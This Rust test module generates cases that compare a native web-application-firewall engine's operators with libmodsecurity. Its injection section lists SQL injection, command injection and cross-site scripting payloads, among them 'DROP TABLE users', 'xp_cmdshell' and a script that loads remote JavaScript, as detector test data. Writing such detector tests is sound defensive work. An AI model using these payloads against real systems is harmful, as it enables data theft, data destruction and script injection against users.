//! The cases: hand-picked edges for each operator, CRS's own `@detectSQLi` and `@detectXSS`
//! payloads (its regression tests for rules 942100 and 941100), benign strings, and values
//! drawn by a fixed generator (xorshift), so that a failure is the same on every run.

use std::collections::BTreeMap;

/// Every operator the native engine has, as rules name them.
pub(super) const OPERATORS: &[&str] = &[
    "rx",
    "pm",
    "eq",
    "ge",
    "gt",
    "le",
    "lt",
    "streq",
    "contains",
    "beginsWith",
    "endsWith",
    "within",
    "containsWord",
    "validateByteRange",
    "validateUrlEncoding",
    "validateUtf8Encoding",
    "ipMatch",
    "detectSQLi",
    "detectXSS",
    "unconditionalMatch",
    "noMatch",
    "geoLookup",
];

/// One case: `@op arg` on `value`.
#[derive(Debug, Clone)]
pub(super) struct Case {
    pub(super) op: &'static str,
    pub(super) arg: Arg,
    pub(super) value: Vec<u8>,
    /// The rule has `capture` (and the test compares TX.n).
    pub(super) capture: bool,
    /// libmodsecurity leaves a TX.n that a group did not set as it was, which
    /// `Matcher::matches` cannot say (it gives the group empty): the case must differ in
    /// exactly that way.
    pub(super) unset_group: bool,
}

/// The operator's argument.
#[derive(Debug, Clone)]
pub(super) enum Arg {
    /// Written in the rule.
    Literal(String),
    /// Sent in the request (any bytes) and read with a macro.
    Macro(Vec<u8>),
}

fn lit(s: &str) -> Arg {
    Arg::Literal(s.to_string())
}

fn mac(b: &[u8]) -> Arg {
    Arg::Macro(b.to_vec())
}

/// Every argument on every value.
fn cross(op: &'static str, args: &[Arg], values: &[&[u8]], capture: bool) -> Vec<Case> {
    let mut out = Vec::new();
    for arg in args {
        for value in values {
            out.push(Case {
                op,
                arg: arg.clone(),
                value: value.to_vec(),
                capture,
                unset_group: false,
            });
        }
    }
    out
}

/// Whether a case marked `unset_group` differs exactly as documented: the same answer, and
/// TX.n the same except groups libmodsecurity left unset, which the native side gives empty.
pub(super) fn unset_groups_differ(
    theirs: &(bool, BTreeMap<usize, Vec<u8>>),
    ours: &(bool, BTreeMap<usize, Vec<u8>>),
) -> bool {
    theirs.0 == ours.0
        && theirs.1 != ours.1
        && theirs.1.iter().all(|(n, v)| ours.1.get(n) == Some(v))
        && ours
            .1
            .iter()
            .all(|(n, v)| theirs.1.contains_key(n) || v.is_empty())
}

/// A fixed pseudo-random sequence.
struct XorShift(u64);

impl XorShift {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }

    fn below(&mut self, n: usize) -> usize {
        (self.next() % n as u64) as usize
    }

    /// A string of up to `max` items of `alphabet`.
    fn string(&mut self, alphabet: &[&[u8]], max: usize) -> Vec<u8> {
        let len = self.below(max + 1);
        (0..len)
            .flat_map(|_| alphabet[self.below(alphabet.len())].to_vec())
            .collect()
    }
}

/// Every operator's cases, by operator.
pub(super) fn all() -> Vec<(&'static str, Vec<Case>)> {
    let mut out: Vec<(&'static str, Vec<Case>)> = vec![
        ("rx", rx()),
        ("pm", pm()),
        ("validateByteRange", byte_range()),
        ("validateUrlEncoding", url_encoding()),
        ("validateUtf8Encoding", utf8()),
        ("ipMatch", ip_match()),
        ("detectSQLi", sqli()),
        ("detectXSS", xss()),
    ];
    for op in ["eq", "ge", "gt", "le", "lt"] {
        out.push((op, numbers(op)));
    }
    for op in [
        "streq",
        "contains",
        "beginsWith",
        "endsWith",
        "within",
        "containsWord",
    ] {
        out.push((op, strings(op)));
    }
    for op in ["unconditionalMatch", "noMatch", "geoLookup"] {
        out.push((op, cross(op, &[lit("")], SOME_VALUES, false)));
    }
    // IPv4 addresses only: libmodsecurity answers them without DNS (HTTP:BL wants a key),
    // where another value would have it ask a resolver this test cannot rely on.
    let ipv4: &[&[u8]] = &[b"1.2.3.4", b"127.0.0.2", b"8.8.8.8", b"10.0.0.1"];
    out.push(("rbl", cross("rbl", &[lit("dnsbl.httpbl.org")], ipv4, false)));
    out
}

const SOME_VALUES: &[&[u8]] = &[b"", b"a", b"1.2.3.4", b"8.8.8.8", b"::1", b"\0\xff"];

#[rustfmt::skip]
const NUMBERS: &[&[u8]] = &[
    b"", b"0", b"5", b"-5", b"+5", b" 5", b"\t5", b"\n5", b"\x0b5", b"\x0c5", b"\r5", b"5 ",
    b"5abc", b"abc", b"-", b"+", b"--5", b"+-5", b"0x10", b"1e3", b"3.9", b"-0", b"007",
    b"2147483647", b"2147483648", b"-2147483648", b"-2147483649", b"4294967296",
    b"9223372036854775807", b"9223372036854775808", b"-9223372036854775808",
    b"-9223372036854775809", b"99999999999999999999999", b"\x005", b"5\x006", b"\xa05",
    b"\xd9\xa3", b" \t -12x", b"- 5", b"6",
];

fn numbers(op: &'static str) -> Vec<Case> {
    let literal: Vec<Arg> = [
        "0",
        "5",
        "-5",
        "10",
        "2147483647",
        "2147483648",
        "-2147483649",
        "9223372036854775807",
        "99999999999999999999",
        "abc",
        "5abc",
        "007",
    ]
    .into_iter()
    .map(lit)
    .collect();
    let macros: Vec<Arg> = [
        &b""[..],
        b" 5",
        b"\t-3",
        b"+0",
        b"\x005",
        b"5\x00",
        b"-",
        b"4294967301",
    ]
    .into_iter()
    .map(mac)
    .collect();
    let mut out = cross(op, &literal, NUMBERS, false);
    out.extend(cross(op, &macros, NUMBERS, false));
    out
}

#[rustfmt::skip]
const STRINGS: &[&[u8]] = &[
    b"", b"a", b"abc", b"ABC", b"xabcx", b"abcd", b"dabc", b"GET", b"E", b"GET POST", b"ET P",
    b" ", b"a\0b", b"a\0", b"word", b"words", b"a word", b"sword", b"word1", b"1word",
    b"_word_", b"word!", b"wordword", b"w", b"\xffword\xff", b"xwordx word", b"swords word",
    b"word-word", b"Word", b"WORD", b"wor", b"ab", b"bc", b"abcabc", b"foo_bar", b"foo bar",
    b"HEAD", b"POST", b"OPTIONS", b"GET POST HEAD", b"\xc3\xa9", b"\xc3",
];

fn strings(op: &'static str) -> Vec<Case> {
    let literal: Vec<Arg> = [
        "abc",
        "GET POST HEAD",
        "a",
        "word",
        "foo_bar",
        "GET",
        "E",
        "ab",
        "Word",
    ]
    .into_iter()
    .map(lit)
    .collect();
    let macros: Vec<Arg> = [
        &b""[..],
        b"abc",
        b"ABC",
        b"a\0b",
        b"\xff",
        b" ",
        b"word",
        b"\xc3\xa9",
        b"a\0",
    ]
    .into_iter()
    .map(mac)
    .collect();
    let mut out = cross(op, &literal, STRINGS, false);
    out.extend(cross(op, &macros, STRINGS, false));
    out
}

fn byte_range() -> Vec<Case> {
    let args: Vec<Arg> = [
        "32-126",
        "9,10,13,32-126",
        "0-255",
        "65",
        "48-57,97-122",
        "1-255",
        "0",
        "38,44-46,48-58,61,65-90,95,97-122",
    ]
    .into_iter()
    .map(lit)
    .collect();
    let mut values: Vec<Vec<u8>> = [
        &b""[..],
        b"abc",
        b"\0",
        b"\t\n",
        b"\x7f",
        b"\xff",
        b"A",
        b"0",
        b"z{",
        b" ",
        b"a b",
        b"a=b&c",
        b"\r\n",
    ]
    .iter()
    .map(|v| v.to_vec())
    .collect();
    values.extend((0..=255u8).step_by(3).map(|b| vec![b]));
    let refs: Vec<&[u8]> = values.iter().map(Vec::as_slice).collect();
    cross("validateByteRange", &args, &refs, false)
}

fn url_encoding() -> Vec<Case> {
    #[rustfmt::skip]
    let values: &[&[u8]] = &[
        b"", b"%", b"%4", b"%41", b"%zz", b"%4g", b"%g4", b"a%41b", b"%%41", b"abc%", b"%41%",
        b"%41%4", b"+", b"%u0041", b"\0%41", b"%00", b"%a", b"x%0", b"%aF%Fa", b"%41\0",
        b"\0%", b"%\0a", b"plain text", b"a%2", b"%2x%41", b"100%", b"%%", b"%%%",
    ];
    cross("validateUrlEncoding", &[lit("")], values, false)
}

fn utf8() -> Vec<Case> {
    let mut values: Vec<Vec<u8>> = [
        &b""[..],
        b"abc",
        b"\xc3\xa9",
        b"\xe2\x82\xac",
        b"\xf0\x9f\x98\x80",
        b"\xc3",
        b"\xc3A",
        b"\xe2\x82",
        b"\xe2\x82A",
        b"\xf0\x9f\x98",
        b"\xc0\x80",
        b"\xc1\xbf",
        b"\xe0\x80\x80",
        b"\xe0\x9f\xbf",
        b"\xed\xa0\x80",
        b"\xed\xbf\xbf",
        b"\xee\x80\x80",
        b"\xf0\x80\x80\x80",
        b"\xf0\x8f\xbf\xbf",
        b"\xf4\x8f\xbf\xbf",
        b"\xf4\x90\x80\x80",
        b"\xf5\x80\x80\x80",
        b"\xf7\xbf\xbf\xbf",
        b"\xf8\x88\x80\x80\x80",
        b"\xbf\x80",
        b"\xff",
        b"a\xc3\xa9\0\xc3\xa9",
        b"\xef\xbf\xbf",
        b"\xdf\xbf",
        b"\xc2\x80",
        b"\xe0\xa0\x80",
        b"\0",
        b"\xc3\xa9\xc3",
        b"\xf0\x90\x80",
        b"\xf4",
    ]
    .iter()
    .map(|v| v.to_vec())
    .collect();
    values.extend((0..=255u8).map(|b| vec![b]));
    values.extend(
        (0x80..=0xffu8)
            .step_by(5)
            .map(|b| vec![b, 0x80, 0x80, 0x80]),
    );
    let refs: Vec<&[u8]> = values.iter().map(Vec::as_slice).collect();
    cross("validateUtf8Encoding", &[lit("")], &refs, false)
}

fn ip_match() -> Vec<Case> {
    let args: Vec<Arg> = [
        "127.0.0.1",
        "10.0.0.0/8",
        "192.168.1.5/24",
        "::1",
        "2001:db8::/32",
        "10.0.0.0/8,192.168.0.0/16,::1",
        "1.2.3.4/32",
        "0.0.0.0/1",
        "fe80::/10",
        "::ffff:0:0/96",
        "10.0.0.0/8,10.1.0.0/16",
        "172.16.0.0/12,2001:db8:abcd::/48",
        "128.0.0.0/1",
        "2001:db8::1/64",
    ]
    .into_iter()
    .map(lit)
    .collect();
    #[rustfmt::skip]
    let values: &[&[u8]] = &[
        b"127.0.0.1", b"127.0.0.2", b"10.1.2.3", b"11.0.0.0", b"192.168.1.200", b"192.168.2.1",
        b"::1", b"::2", b"0:0:0:0:0:0:0:1", b"2001:db8::1", b"2001:db9::1", b"::ffff:10.0.0.1",
        b"::ffff:192.168.1.1", b" 127.0.0.1", b"127.0.0.1 ", b"127.0.0.01", b"127.1",
        b"127.0.0.1\0x", b"127.0.0.1:80", b"[::1]", b"fe80::1%eth0", b"", b"abc", b"1.2.3.4",
        b"1.2.3.4.5", b"256.1.1.1", b"::", b"1::", b":::", b"1:2:3:4:5:6:7:8",
        b"1:2:3:4:5:6:7::", b"::2:3:4:5:6:7:8", b"1:2:3:4:5:6:7:8:9", b"::1.2.3.4",
        b"::1.2.3", b"1:2:3:4:5:6:1.2.3.4", b"0x7f.0.0.1", b"2001:DB8::1", b"fe80::abcd",
        b"febf:ffff::1", b"fec0::1", b"10.0.0.0", b"10.255.255.255", b"172.31.255.255",
        b"172.32.0.0", b"127.0.0.1.", b".127.0.0.1", b"1.2.3.04", b"00.1.2.3", b"::ffff:1.2.3.04",
        b"2001:db8:abcd:12::1", b"2001:db8:abce::1", b"0.0.0.0", b"255.255.255.255",
        b"::00001", b"1:::2", b"1::2::3", b":1::2", b"1::2:", b"2001:db8::1\0", b"\0",
        b"2001:0db8:0000:0000:0000:0000:0000:0001", b"::1.2.3.4.5", b"::256.1.1.1",
        b"1:2:3:4:5:6:7:1.2.3.4",
    ];
    cross("ipMatch", &args, values, false)
}

fn rx() -> Vec<Case> {
    let mut out = Vec::new();
    #[rustfmt::skip]
    let values: &[&[u8]] = &[
        b"", b"a", b"b", b"ab", b"abc", b"ABC", b"xabc\n", b"a\nb", b"b\na", b"123", b"12a",
        b"\0", b"a\0b", b"\xc3\xa9", b"\xff", b"select * from t", b"SeLeCt 1 FrOm", b"aaaa",
        b"x\r\ny", b"\n", b"abcdefghijkl", b"ba",
    ];
    let patterns = [
        "^a",
        "abc",
        "(a)(b)?",
        "^$",
        "a.c",
        "^(\\d+)$",
        "(?i)abc",
        "a$",
        "^b",
        "\\x00",
        "[\\x80-\\xff]",
        "(a)(b)(c)(d)(e)(f)(g)(h)(i)(j)(k)(l)",
        "(?i)select.*from",
        "(?:x)+y",
        "^a.b$",
        "(?m)^b",
        "\\bab",
        "b\\z",
        "b\\Z",
        "(a*)",
        "(\\xc3)\\xa9",
        "\\n$",
        "^.*$",
        "(?s)a.b",
    ]
    .into_iter()
    .map(lit)
    .collect::<Vec<_>>();
    out.extend(cross("rx", &patterns, values, true));
    out.extend(cross("rx", &patterns[..6], values, false));
    // A group that takes no part: libmodsecurity leaves TX.1 as it was.
    for value in [&b"b"[..], b"xb"] {
        out.push(Case {
            op: "rx",
            arg: lit("(a)|(b)"),
            value: value.to_vec(),
            capture: true,
            unset_group: true,
        });
    }
    out.extend(cross("rx", &[lit("(a)|(b)")], &[b"a", b"", b"c"], true));
    // Backtracking past PCRE2's match limit: no match, in both.
    let long: Vec<u8> = [b"a".repeat(28), b"b".to_vec()].concat();
    out.extend(cross("rx", &[lit("^(a|aa)+$")], &[&long], false));
    // Deep enough to exhaust the JIT's stack: libmodsecurity runs the interpreter instead.
    let deep = b"ab".repeat(20_000);
    out.extend(cross(
        "rx",
        &[lit("^(a|b)*$"), lit("^(?:(a)|b)*c")],
        &[&deep],
        false,
    ));
    let macros: Vec<Arg> = [
        &b""[..],
        b"^a",
        b"(a)(b)",
        b"[",
        b"a\0b",
        b"\xff",
        b"\\\xff",
        b"(\xc3)\xa9",
        b"^(a",
        b"b$",
        b"(?i)ABC",
    ]
    .into_iter()
    .map(mac)
    .collect();
    out.extend(cross("rx", &macros, values, true));
    out
}

fn pm() -> Vec<Case> {
    let mut out = Vec::new();
    #[rustfmt::skip]
    let values: &[&[u8]] = &[
        b"", b"abc", b"xABCx", b"abcd", b"abcx", b"ab", b"cd", b"xcd", b"bcd", b"DEF", b"de",
        b"union select", b"UNION/**/SELECT", b"\xc3\xa9", b"x\xc3\xa9", b"foo", b"xfoobar",
        b"aab", b"aaab", b"aabc", b"abab", b"a\0bc",
    ];
    let sets = [
        "abc",
        "ABC def",
        "abcx cd",
        "abcx bz cd",
        "a ab abc",
        "bc abcd",
        "foo bar baz",
        "select union",
        "\u{e9}",
        "x\u{e9} foo",
        "aab ab",
        "abc bcd cd",
        "Abx abc",
        "bcd abcx c",
    ]
    .into_iter()
    .map(lit)
    .collect::<Vec<_>>();
    out.extend(cross("pm", &sets, values, true));
    out.extend(cross("pm", &sets[..4], values, false));
    // Small alphabets, to reach the automaton's corners.
    let mut rng = XorShift(0x9e37_79b9_7f4a_7c15);
    let alphabet: &[&[u8]] = &[b"a", b"b", b"c", b"A", b"B"];
    for _ in 0..80 {
        let count = 1 + rng.below(6);
        let phrases: Vec<String> = (0..count)
            .map(|_| {
                let mut p = rng.string(alphabet, 4);
                if p.is_empty() {
                    p.push(b'a');
                }
                String::from_utf8(p).unwrap()
            })
            .collect();
        let values: Vec<Vec<u8>> = (0..10).map(|_| rng.string(alphabet, 12)).collect();
        let refs: Vec<&[u8]> = values.iter().map(Vec::as_slice).collect();
        out.extend(cross("pm", &[lit(&phrases.join(" "))], &refs, true));
    }
    out
}

/// The payloads of CRS 4.22's regression tests for rule 942100 (`@detectSQLi`), the
/// parameter's value as sent and decoded.
#[rustfmt::skip]
const CRS_SQLI: &[&str] = &[
    "1234 OR 1=1", "-1839' or '1'='1", "-1839\" or \"1\"=\"2", "2010-01-01'+sleep(20.to_i)+'",
    "2010-01-01' sleep(20.to_i) '", "EmptyValue' and 526=527", "foo') UNION ALL select NULL --",
    "foo')waitfor%20delay'5%3a0%3a20'--", "foo')waitfor delay'5:0:20'--",
    "JKGHUKGDI8TDHLFJH72FZLFJSKFH' and sleep(12) --",
    "/path/to/file/unitests.txt') UNION ALL select NULL --",
    "1'||(select extractvalue(xmltype('<?xml version=\"1.1\" encoding=\"UTF-8\"?><!DOCTYPE root [ <!ENTITY % toyop SYSTEM \"https://coreruleset.org/\">%toyop;",
    "sleep(20)", "unittests@coreruleset.org\" sleep(10.to_i) \"",
    "\" | type %SystemDrive%\\\\config.ini | \"",
    "\"unittests@coreruleset.org\"')) and (select*from(select(sleep(5)))x) --",
];

/// The payloads of CRS 4.22's regression tests for rule 941100 (`@detectXSS`).
#[rustfmt::skip]
const CRS_XSS: &[&str] = &[
    "<script xmlns=\"http://www.w3.org/1999/xhtml\">setTimeout(\"top.frame2.location=\"javascript:(function () {var x = document.createElement(\\\"script\\\");x.src = \\\"//sdl.me/popup.js?//\\\";document.childNodes\\[0\\].appendChild(x);}());\"\",1000)</script>",
    "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\" src=\"data:,alert(1)\" />",
    "/char_test?mime=text/xml&body=%3Cx:script%20xmlns:x=%22http://www.w3.org/1999/xhtml%22%20src=%22data:,alert(1)%22%20/%3E",
    "http://www.coreruleset.org", "<xss onbeforehellfreezes=aler%77(1)>",
    "<xss onbeforehellfreezes=alerw(1)>",
];

#[rustfmt::skip]
const BENIGN: &[&str] = &[
    "", "hello world", "John O'Reilly", "1", "-1", "a=b", "The quick brown fox", "2024-01-01",
    "user@example.com", "select a product", "union station", "it's 5 o'clock", "1 or 2",
    "<b>bold</b>", "<p class=\"x\">text</p>", "a < b > c", "javascript is fun",
    "Mozilla/5.0 (X11; Linux x86_64)", "/path/to/file.txt", "{\"a\":1}", "100%", "x' y",
];

#[rustfmt::skip]
const MORE_SQLI: &[&str] = &[
    "1' OR '1'='1", "1 UNION SELECT username, password FROM users--", "admin'--",
    "1; DROP TABLE users", "' OR 1=1#", "1 AND 1=1", "1' AND SLEEP(5)#", "\" or \"\"=\"",
    "1) or (1=1", "@@version", "1 or 1", "-1 union select 1,2,3", "'; exec xp_cmdshell 'dir'--",
    "1'/**/or/**/'1'='1", "0x414243", "1e1 union select", "SELECT * FROM t WHERE a='b'",
];

#[rustfmt::skip]
const MORE_XSS: &[&str] = &[
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "javascript:alert(1)",
    "<svg onload=alert(1)>", "<a href=\"javascript:alert(1)\">x</a>", "<iframe src=x>",
    "\"><script>", "<body onload=x>", "<div style=\"x:expression(alert(1))\">",
    "<!--<script>-->", "<a href='vbscript:x'>", "<object data=x>", "<x onclick=y>",
    "<style>@import 'x';</style>", "<?xml version=\"1.0\"?>", "</textarea><script>",
];

/// Strings put together from SQL and HTML pieces.
fn soup(seed: u64, pieces: &[&[u8]], count: usize) -> Vec<Vec<u8>> {
    let mut rng = XorShift(seed);
    (0..count).map(|_| rng.string(pieces, 8)).collect()
}

fn injection(op: &'static str, attacks: &[&[&str]], pieces: &[&[u8]]) -> Vec<Case> {
    let mut values: Vec<Vec<u8>> = attacks
        .iter()
        .flat_map(|list| list.iter())
        .chain(BENIGN)
        .map(|s| s.as_bytes().to_vec())
        .collect();
    values.extend(soup(0x2545_f491_4f6c_dd1d, pieces, 300));
    values.push(b"1' or '1'='1\0".to_vec());
    values.push(b"\xff' or 1=1--".to_vec());
    let (short, long): (Vec<_>, Vec<_>) = values
        .into_iter()
        .partition(|v| v.len() <= super::MAX_CAPTURE);
    let refs: Vec<&[u8]> = short.iter().map(Vec::as_slice).collect();
    let mut out = cross(op, &[lit("")], &refs, true);
    let refs: Vec<&[u8]> = long.iter().map(Vec::as_slice).collect();
    out.extend(cross(op, &[lit("")], &refs, false));
    out
}

fn sqli() -> Vec<Case> {
    #[rustfmt::skip]
    let pieces: &[&[u8]] = &[
        b"'", b"\"", b" ", b"1", b"or", b"OR", b"and", b"=", b"--", b"#", b"/*", b"*/", b"(",
        b")", b"union", b"select", b"from", b"x", b";", b",", b"sleep", b"0x1", b"@@", b"`",
    ];
    injection("detectSQLi", &[CRS_SQLI, MORE_SQLI], pieces)
}

fn xss() -> Vec<Case> {
    #[rustfmt::skip]
    let pieces: &[&[u8]] = &[
        b"<", b">", b"/", b"script", b"img", b" ", b"src", b"=", b"\"", b"'", b"on", b"error",
        b"alert(1)", b"javascript:", b"a", b"href", b"<!--", b"-->", b"style", b"x", b"\0",
        b"`", b"svg",
    ];
    injection("detectXSS", &[CRS_XSS, MORE_XSS], pieces)
}
